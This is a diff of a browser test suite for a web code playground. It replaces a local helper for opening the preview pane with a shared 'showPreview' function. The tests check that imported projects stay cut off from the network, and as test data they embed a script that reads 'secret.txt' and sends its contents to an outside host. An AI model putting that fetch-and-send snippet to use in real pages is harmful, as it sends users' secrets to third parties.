@@ -4,7 +4,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { packZip } from "../node/archives.mjs";
-import { chosen, create, editorText, file, playground, preview, ready, saved, shows, terminal } from "./playground-support.mjs";
+import { chosen, create, editorText, file, playground, preview, ready, saved, showPreview, shows, terminal } from "./playground-support.mjs";
 
 const { open, url } = playground();
 
@@ -22,7 +22,7 @@ async function shown(t, script, { tick = false, ...options } = {}) {
   });
   await create(page, "page");
   await chosen(page, "Import files or archives…", [file("secret.txt", "secret-42"), file("index.html", `<p>project</p><script>${script}</script>`)]);
-  await page.click(".preview-toggle");
+  await showPreview(page);
   if (tick) await page.check(".preview input[type=checkbox]");
   return { ...opened, seen };
 }
@@ -32,12 +32,6 @@ const SEND = `const send = async () => {
   const text = await fetch("secret.txt").then((answer) => answer.text());
   await fetch("${OUTSIDE}/?" + text).then(() => console.log("sent"), () => console.log("kept"));
 };`;
-
-/** Opens the preview, if it is not. */
-async function look(page) {
-  await page.waitForSelector(".preview-toggle");
-  if ((await page.getAttribute(".preview-toggle", "aria-pressed")) !== "true") await page.click(".preview-toggle");
-}
 
 async function told(page, text) {
   await page.waitForSelector(`.console:has-text("${text}")`);
@@ -97,14 +91,13 @@ test("the network is for one project, not for the next one or a run", async (t) 
   assert.equal(await box.isChecked(), true);
   await create(page, "stranger");
   await chosen(page, "Import files or archives…", [file("index.html", `<script>${SEND} send()</script>`), file("secret.txt", "x")]);
-  await page.waitForSelector(".preview-toggle");
-  await look(page);
+  await showPreview(page);
   await told(page, "kept");
   assert.equal(await box.isChecked(), false);
   await saved(page);
   await page.reload();
   await ready(page);
-  await look(page);
+  await showPreview(page);
   await told(page, "kept");
   assert.equal(await box.isChecked(), false);
 });
@@ -166,8 +159,7 @@ async function previewed(t, files) {
   const { page } = opened;
   await create(page, "page");
   await chosen(page, "Import files or archives…", { name: "page.zip", mimeType: "application/zip", buffer: Buffer.from(packZip(Object.entries(files).map(([name, text]) => ({ name, content: text })))) });
-  await page.waitForSelector(".preview-toggle");
-  await look(page);
+  await showPreview(page);
   return opened;
 }
 
